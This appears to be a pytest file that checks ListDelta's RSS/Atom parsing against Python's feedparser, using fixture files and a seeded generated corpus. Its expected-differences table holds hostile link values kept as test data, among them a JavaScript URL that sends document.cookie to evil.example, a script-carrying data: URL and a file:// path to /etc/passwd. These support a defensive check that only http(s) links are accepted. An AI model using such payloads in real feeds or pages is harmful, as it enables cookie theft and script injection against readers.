"""ListDelta's feed reading against a second reader, Python's feedparser (pinned in scripts/setup.sh): the same bytes
are served to a source on loopback and given to feedparser (with the URL they were served from as the document's
base), and the list the source makes must have as many items as feedparser has entries, with the same links, ids
and titles.

Titles are compared as a reader shows them: where feedparser reports an HTML title (`title_detail.type`
text/html or application/xhtml+xml) it keeps the markup, which ListDelta's model reduces to text, so that title
is compared as text (feed_rules.shown_title: tags, comments, CDATA sections, script and style elements removed,
character references decoded, white space runs made one space; docs/sources.md, "Titles and links"). Ids are
compared where feedparser has one. Links are compared as feedparser gives them.

Where the two readers differ on purpose, the difference is listed in EXPECTED_DIFFERENCES with its reason (the same
as docs/sources.md gives): both values must then be exactly the listed ones, and every listed difference must be
seen, so a fixed or a changed difference fails the test too.

The inputs: the unit tests' fixtures of each form (Tests/ListDeltaFeedsTests/Fixtures) and a corpus this test
generates from a fixed seed (RSS 2.0, RSS without a version or in UserLand's namespace, Atom 1.0, Atom 0.3 with
each content mode; HTML, escaped, base64, XHTML and CDATA titles; character references; relative links under
`xml:base` at either level or none; Atom entries whose only link is their http(s) id; safe internal entities).
"""

import base64
import random
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import pytest

from conftest import Server, uid
from feed_rules import shown_title
from test_sources import ALLOW_LOOPBACK, FeedServer, attach, ok_fetch

feedparser = pytest.importorskip("feedparser")

FIXTURES = Path(__file__).resolve().parents[1] / "ListDeltaFeedsTests" / "Fixtures"
FIXTURE_NAMES = ["atom.xml", "atom03.xml", "rss2.xml", "rss091.xml", "rss10.rdf", "rss-unversioned.xml",
                 "rss-namespaced.xml", "entities.xml", "cdf.xml", "xml-base.xml", "relative-nobase.xml",
                 "atom-id-links.xml", "rss-guid-links.xml", "extension-titles.xml", "atom-base64-titles.xml",
                 "html-titles.xml", "cdf-base.xml", "atom-no-namespace.xml", "unsafe-links.xml"]

ONLY_WEB_LINKS = "a link is only an http(s) URL; feedparser keeps any scheme"
IDS_AS_WRITTEN = "an id is an identifier, kept as written; feedparser resolves it like a link"
# (fixture, entry, member) -> (ListDelta's value, feedparser's value, the reason); docs/sources.md lists each reason.
EXPECTED_DIFFERENCES = {
    ("atom-id-links.xml", 1, "id"): ("glue-up", "https://notes.example.net/2026/11/glue-up", IDS_AS_WRITTEN),
    ("atom-id-links.xml", 2, "id"): ("/2026/11/inventory", "https://notes.example.net/2026/11/inventory", IDS_AS_WRITTEN),
    ("atom-id-links.xml", 3, "link"): (None, "tag:notes.example.net,2026:oil-finishes",
                                       "an id is the link only when it is (or resolves to) an http(s) URL"),
    ("rss-guid-links.xml", 0, "id"): ("episodes/12", "https://radio.example.org/shows/late-signal/episodes/12",
                                      IDS_AS_WRITTEN),
    ("extension-titles.xml", 4, "title"): (None, "Storm warning",
                                           "the title of an image inside a category is not the item's title"),
    ("unsafe-links.xml", 0, "link"): (None, "javascript:alert(document.cookie)", ONLY_WEB_LINKS),
    ("unsafe-links.xml", 1, "link"): ("https://board.example.com/posts/lost-cat",
                                      "JavaScript:void(fetch('//evil.example/'+document.cookie))",
                                      ONLY_WEB_LINKS + "; the permalink guid is the next candidate"),
    ("unsafe-links.xml", 2, "link"): (None, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ONLY_WEB_LINKS),
    ("unsafe-links.xml", 3, "link"): (None, 'vbscript:msgbox("hi")', ONLY_WEB_LINKS),
    ("unsafe-links.xml", 4, "link"): (None, "file://etc/passwd", ONLY_WEB_LINKS),
}


@pytest.fixture(scope="module")
def listdelta(tmp_path_factory):
    d = tmp_path_factory.mktemp("differential") / "db"
    d.mkdir()
    s = Server(d, env=ALLOW_LOOPBACK).start()
    yield s
    s.stop()


@pytest.fixture(scope="module")
def feeds():
    f = FeedServer()
    yield f
    f.close()


def compare(listdelta, feeds, name, body, seen=None):
    """Serves `body`, reads it both ways, and returns the differences (empty when they agree) that
    EXPECTED_DIFFERENCES does not list exactly; the listed ones met are added to `seen`."""
    path = f"/differential/{name}"
    feeds.set(path, body, content_type="application/xml")
    url = feeds.url(path)
    parsed = feedparser.parse(body, response_headers={"content-location": url, "content-type": "application/xml"})
    list_id = uid("diff")
    state = attach(listdelta, list_id, url, maxItems=1000)
    ok_fetch(state, changed=True)
    items = listdelta.doc(list_id)["sections"][0]["items"]
    problems = []
    if len(items) != len(parsed.entries):
        problems.append(f"{name}: {len(items)} items, feedparser {len(parsed.entries)} entries")
    for index, (item, entry) in enumerate(zip(items, parsed.entries)):
        model = item["model"]
        ours = {"title": model["title"], "link": model["link"]}
        theirs = {"title": shown_title(entry.get("title_detail"), entry.get("title")), "link": entry.get("link")}
        if "id" in entry:
            ours["id"], theirs["id"] = item["id"], entry["id"]
        for member in ours:
            key = (name, index, member)
            if key in EXPECTED_DIFFERENCES and EXPECTED_DIFFERENCES[key][:2] == (ours[member], theirs[member]):
                if seen is not None:
                    seen.add(key)
            elif ours[member] != theirs[member]:
                problems.append(f"{name} entry {index} {member}: ListDelta {ours[member]!r}, feedparser {theirs[member]!r}")
    return problems


@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_the_fixtures_read_as_feedparser_reads_them(listdelta, feeds, name):
    body = (FIXTURES / name).read_bytes()
    seen = set()
    assert compare(listdelta, feeds, name, body, seen) == []
    assert seen == {key for key in EXPECTED_DIFFERENCES if key[0] == name}, "an expected difference was not seen"


# ---------------------------------------------------------------------------
# The generated corpus

WORDS = ["alpha", "Bravo", "caf\u00e9", "na\u00efve", "\u03a9mega", "x&y", "1 < 2", "tea", "\u2615", "Zulu", "q\"uote"]
ENTITY_WORDS = {"brand": "Example Brand", "town": "Springfield"}


class Corpus:
    """Feeds drawn from a seeded generator; each method returns the bytes of one feed."""

    def __init__(self, seed):
        self.random = random.Random(seed)

    def words(self, count=3):
        return " ".join(self.random.choice(WORDS) for _ in range(count))

    def link(self, n):
        return self.random.choice([f"posts/{n}.html", f"../up/{n}.html", f"/abs/{n}", f"https://abs.example.com/{n}",
                                   f"p?id={n}&amp;s=1"])

    def base_attribute(self):
        base = self.random.choice([None, None, "https://base.example.org/a/b/", "sub/", "/root/"])
        return f" xml:base={quoteattr(base)}" if base else ""

    def rss_title(self):
        a, b = self.words(2), self.words(1)
        return self.random.choice([
            escape(a),
            escape(f"<b>{a}</b> {b}"),
            escape(f"{a} &amp; {b}"),
            f"{escape(a)} &#233;&#x2014;",
            f"<![CDATA[{a} <i>{b}</i>]]>",
            "&brand; " + escape(b),
            escape(a) + " in &town;",
        ])

    def rss(self, n_entries):
        root = self.random.choice(['<rss version="2.0">', "<rss>", '<rss version="9.9">',
                                   '<rss version="2.0" xmlns="http://backend.userland.com/rss2">'])
        upper = self.random.random() < 0.3
        tag = (lambda name: name.upper()) if upper else (lambda name: name)
        items = []
        for n in range(n_entries):
            parts = [f"<{tag('title')}>{self.rss_title()}</{tag('title')}>"]
            if self.random.random() < 0.8:
                parts.append(f"<{tag('link')}>{self.link(n)}</{tag('link')}>")
            guid = self.random.choice([None, f"gen-{n}", f"https://ids.example.com/{n}"])
            if guid and guid.startswith("https:"):
                parts.append(f"<guid>{guid}</guid>")
            elif guid:
                parts.append(f'<guid isPermaLink="false">{guid}</guid>')
            items.append(f"<{tag('item')}{self.base_attribute()}>" + "".join(parts) + f"</{tag('item')}>")
        # One declaration a line: feedparser finds declarations only at the start of a line.
        doctype = '<!DOCTYPE rss [\n<!ENTITY brand "Example Brand">\n<!ENTITY town "Springfield">\n]>\n'
        return (f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}{root}<{tag("channel")}{self.base_attribute()}>'
                f"<{tag('title')}>Generated</{tag('title')}><{tag('link')}>./</{tag('link')}>"
                + "\n".join(items) + f"</{tag('channel')}></rss>").encode()

    def atom10_title(self):
        a, b = self.words(2), self.words(1)
        return self.random.choice([
            f"<title>{escape(a)}</title>",
            f'<title type="html">{escape(f"<em>{a}</em> {b}")}</title>',
            f'<title type="html">{escape(f"{a} &amp; {b}")}</title>',
            f'<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{escape(a)} <b>{escape(b)}</b></div></title>',
        ])

    def atom03_title(self):
        a, b = self.words(2), self.words(1)
        markup = f"<em>{escape(a)}</em> {escape(b)}"
        encoded = base64.b64encode(markup.encode()).decode()
        return self.random.choice([
            f'<title type="text/plain">{escape(a)}</title>',
            f'<title mode="escaped" type="text/html">{escape(markup)}</title>',
            f'<title mode="base64" type="text/html">{encoded}</title>',
            f'<title mode="xml" type="application/xhtml+xml"><div xmlns="http://www.w3.org/1999/xhtml">{markup}</div></title>',
        ])

    def atom_link(self, n):
        links = [f'<link rel="alternate" type="text/html" href="{self.link(n)}"/>']
        if self.random.random() < 0.5:
            links.insert(0, f'<link rel="related" type="text/html" href="https://related.example.com/{n}"/>')
        if self.random.random() < 0.3:
            links.insert(0, f'<link rel="alternate" type="application/atom+xml" href="feeds/{n}.atom"/>')
        return "".join(links)

    def atom(self, n_entries, version):
        if version == "1.0":
            head = '<feed xmlns="http://www.w3.org/2005/Atom"'
            title, dated = self.atom10_title, "<updated>2026-11-25T08:00:00Z</updated>"
        else:
            head = '<feed version="0.3" xmlns="http://purl.org/atom/ns#"'
            title, dated = self.atom03_title, "<issued>2026-11-25T08:00:00Z</issued><modified>2026-11-25T09:00:00Z</modified>"
        entries = []
        for n in range(n_entries):
            # Some entries have no link: their http(s) id is the page readers open.
            links, id = ("", f"https://ids.example.com/atom/{n}") if self.random.random() < 0.2 else (self.atom_link(n), f"urn:gen:{n}")
            entries.append(f"<entry{self.base_attribute()}>{title()}{links}<id>{id}</id>{dated}</entry>")
        return (f'<?xml version="1.0" encoding="utf-8"?>\n{head}{self.base_attribute()}>{title()}'
                f'<link rel="alternate" type="text/html" href="home/"/><id>urn:gen</id>'
                + "\n".join(entries) + "</feed>").encode()

    def feed(self):
        kind = self.random.choice(["rss", "atom10", "atom03"])
        count = self.random.randint(1, 8)
        if kind == "rss":
            return kind, self.rss(count)
        return kind, self.atom(count, "1.0" if kind == "atom10" else "0.3")


def test_a_generated_corpus_reads_as_feedparser_reads_it(listdelta, feeds):
    corpus = Corpus(seed=33)
    problems = []
    kinds = set()
    for index in range(100):
        kind, body = corpus.feed()
        kinds.add(kind)
        problems += compare(listdelta, feeds, f"generated-{index}-{kind}.xml", body)
    assert kinds == {"rss", "atom10", "atom03"}
    assert problems == [], "\n".join(problems)
